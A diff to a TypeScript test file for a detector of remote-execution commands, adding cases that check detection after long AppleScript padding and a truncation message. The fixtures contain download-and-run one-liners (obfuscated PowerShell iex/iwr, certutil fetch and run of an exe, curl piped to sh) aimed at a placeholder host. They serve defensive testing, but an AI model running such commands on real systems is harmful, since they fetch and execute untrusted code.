@@ -47,7 +47,12 @@ describe('executions', () => {
     ['powershell', "&('i'+'ex') (i`wr https://h.invalid/i)", ['iex', 'argument', 'https://h.invalid/i']],
     ['batch', 'certutil -urlcache -f https://h.invalid/x.exe x.exe & x.exe', ['x', 'downloaded file', 'https://h.invalid/x.exe']],
     ['applescript', 'do shell script "curl -s https://h.invalid/i | sh"', ['sh', 'pipe', 'https://h.invalid/i']],
+    ['applescript', `${'set a to "x"\n'.repeat(2_000)}do shell script "curl -s https://h.invalid/i | sh"`, ['sh', 'pipe', 'https://h.invalid/i']],
   ] as const)('%s: %s', (language, text, expected) => expect(executions(text, language)).toContainEqual(expected))
+})
+
+test.each([['variables', 'set a to "x"\n'.repeat(60_000)], ['programs', 'do shell script "x"\n'.repeat(600)], ['a text made longer and longer', `set a to "x"\n${'set a to a & a\n'.repeat(2_000)}`]])('more AppleScript than is followed is told: %s', (_, text) => {
+  expect(parseLexically(text, 'applescript').truncated).toMatch(/^only the first 500 programs/)
 })
 
 describe('uploads', () => {
